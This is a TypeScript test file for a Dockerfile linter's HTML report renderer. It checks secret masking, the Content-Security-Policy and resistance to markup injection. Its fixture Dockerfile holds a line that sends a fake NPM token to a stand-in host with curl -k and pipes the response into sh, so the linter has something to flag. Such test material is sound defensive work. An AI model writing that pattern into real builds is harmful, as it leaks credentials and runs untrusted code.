import { createHash } from "node:crypto";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { evaluate } from "../../src/evaluate.ts";
import type { Report } from "../../src/model/report.ts";
import { renderHtml } from "../../src/report/html.ts";
import { rules } from "../../src/rules/index.ts";
import { packPolicy } from "../support/pack-policy.ts";
import { hostileText } from "./markdown-reader.ts";
import { readMarkup, shapeOf } from "./markup-reader.ts";
import { fileOf, problemOf, reportOf } from "./report-builder.ts";

const policy = packPolicy("recommended");
const text = `# syntax=docker/dockerfile:1
FROM golang:latest AS build
ARG NPM_TOKEN=ghp_${"a1B2".repeat(9)}
RUN curl -k "https://x.example/$NPM_TOKEN" | sh
COPY . .
RUN go build -o /app .
FROM scratch AS app
COPY --from=0 /app /app # note
`;

function judged(files: Readonly<Record<string, string>>): Report {
  const versions = Object.entries(files).map(([path, content]) => ({ path, text: content }));
  const change = { head: { sha: "a".repeat(40), ref: "main" }, files: versions, problems: [], target: undefined };
  return evaluate(change, policy, rules, "1.0.0", "2026-11-24");
}

describe("renderHtml", () => {
  const report = judged({ Dockerfile: text, "web/Dockerfile": "FROM scratch\nCOPY a /a\nUSER 1\n" });
  const page = renderHtml(report);
  const read = readMarkup(page);

  it("says the verdict first, then every finding with its rule, level, message, lines and fix", () => {
    expect(read.text.indexOf("Blocked")).toBeLessThan(read.text.indexOf("Dockerfile"));
    const findings = report.files.flatMap((file) => file.findings);
    const cards = read.elements.filter(({ name }) => name === "article");
    expect(cards.map(({ attributes }) => attributes.get("data-rule"))).toEqual(findings.map(({ rule }) => rule));
    for (const { message } of findings) expect(read.text).toContain(message.replaceAll("`", ""));
    expect(read.text).toContain("COPY --from=build /app /app");
    expect(read.text).toContain("Without findings");
  });

  it("shows what the parser took for what", () => {
    expect(page).toContain('<span class="t-keyword">FROM</span> golang:latest AS <span class="t-name">build</span>');
    expect(page).toContain('<span class="t-command">curl</span>');
    expect(page.includes('<span class="t-flag">--from=</span><span class="t-name">0</span>')).toBe(true);
    expect(page).toContain('<span class="t-directive"># syntax=docker/dockerfile:1</span>');
  });

  it("holds the stage graph as picture and as table", () => {
    expect(read.elements.filter(({ name }) => name === "svg").length).toBeGreaterThan(2);
    expect(read.text).toMatch(/copies \/app, [^\n]{0,60} from build/);
  });

  it("conceals secrets, wherever they stand", () => {
    expect(page).not.toContain("a1B2");
    expect(page).toContain("•••");
  });

  it("lets nothing run but its own script and style, and loads nothing", () => {
    const [script = "", style = ""] = ["script", "style"].map(
      (name) => page.split(`<${name}>`)[1]?.split(`</${name}>`)[0],
    );
    const hash = (content: string) => `'sha256-${createHash("sha256").update(content).digest("base64")}'`;
    const policies = read.elements.find(({ attributes }) => attributes.get("http-equiv") === "Content-Security-Policy");
    expect(policies?.attributes.get("content")).toBe(
      `default-src 'none'; script-src ${hash(script)}; style-src ${hash(style)}; base-uri 'none'; form-action 'none'`,
    );
    expect(shapeOf(read).filter((part) => / (?:src|style|srcset|on\w+|action)$/.test(part))).toEqual([]);
    const links = read.elements.flatMap(({ attributes }) => attributes.get("href") ?? []);
    expect(links.filter((link) => !/^#f\d+-\d+$/.test(link))).toEqual([]);
    const ids = new Set(read.elements.flatMap(({ attributes }) => attributes.get("id") ?? []));
    expect(links.filter((link) => !ids.has(link.slice(1)))).toEqual([]);
    expect(style).not.toMatch(/url\(|@import/);
  });

  it("tells waivers, existing findings, output of builds and problems", () => {
    const file = fileOf("Dockerfile", "FROM a AS b\nRUN make\n", [
      {
        at: "RUN",
        status: "waived",
        waiver: {
          reason: "until <March>",
          expires: "2027-03-31",
          pending: false,
          place: { kind: "comment", path: "Dockerfile", line: 1 },
        },
      },
      { at: "FROM a", status: "existing", rule: "floating-base-tag" },
      { at: "make", rule: "failed-test-stage", level: "error", output: ["FAIL: <b>"] },
    ]);
    const problems = [problemOf({ path: "x<y", message: "It is `not` text." })];
    const words = readMarkup(renderHtml(reportOf([file], { problems }))).text;
    for (const part of [
      "waived until 2027-03-31",
      "Waived until 2027-03-31: until <March>",
      "existing",
      "FAIL: <b>",
      "x<y: It is not text.",
    ]) {
      expect(words).toContain(part);
    }
  });

  it("has a page for no files at all", () => {
    expect(readMarkup(renderHtml(reportOf([]))).text).toContain("no Dockerfiles");
  });

  it("stays of a size that opens, with 10,000 findings in 300 files, and says what is cut", () => {
    const line = "COPY --from=build /some/long/path/of/a/program /some/other/path # a note that is taken for files\n";
    const files = Array.from({ length: 300 }, (_, index) =>
      fileOf(
        `services/s${index}/Dockerfile`,
        `FROM a AS build\nFROM b\n${line.repeat(33)}`,
        Array.from({ length: 34 }, (__, place) => ({
          at: "COPY",
          occurrence: Math.min(place + 1, 33),
          level: (["error", "warning", "notice"] as const)[place % 3] ?? "notice",
          message: "The words behind `#` become files to copy. Move the note to a line of its own. ".repeat(2),
        })),
      ),
    );
    const big = reportOf(files);
    const html = renderHtml(big);
    expect(html.length).toBeLessThan(6_000_000);
    const { elements, text: words } = readMarkup(html);
    const cards = elements.filter(({ name }) => name === "article").length;
    const said = /(\d+) findings left out/.exec(words)?.[1] ?? "0";
    expect(cards + Number(said)).toBe(10_200);
    expect(cards).toBeGreaterThan(1500);
    expect(/\d+ findings without source, \d+ stage graphs not drawn/.test(words)).toBe(true);
    expect(/3600 errors, 3300 warnings, 3300 notices in 300 of 300 files/.test(words)).toBe(true);
  }, 120_000);

  it("makes no element and no attribute of any text", () => {
    const known = new Set([...shapeOf(read), "mark", "mark class", "section hidden", "p class", "span id", "ul class"]);
    fc.assert(
      fc.property(hostileText, hostileText, (first, second) => {
        const word = first.replace(/\s+/g, "") || "x";
        const row = second.replace(/[\r\n]+/g, " ");
        const dockerfile = `# ${row}\nFROM golang AS ${word}\nARG A_TOKEN="${word}"\nCOPY a b /c/ # ${row}\nRUN echo ${row} | sh\nFROM ${word}\nCOPY --from=0 /${word} /${row}\nRUN <<E\n${second}\nE\n`;
        const hostile = judged({ [`a/${word}`]: dockerfile, [row || "y"]: text });
        const problems = [problemOf({ message: second, path: first })];
        const made = readMarkup(
          renderHtml({ ...hostile, problems, head: { sha: word, ref: row }, policy: { source: first, digest: "" } }),
        );
        expect(shapeOf(made).filter((part) => !known.has(part))).toEqual([]);
      }),
      { numRuns: 60 },
    );
  }, 240_000);
});
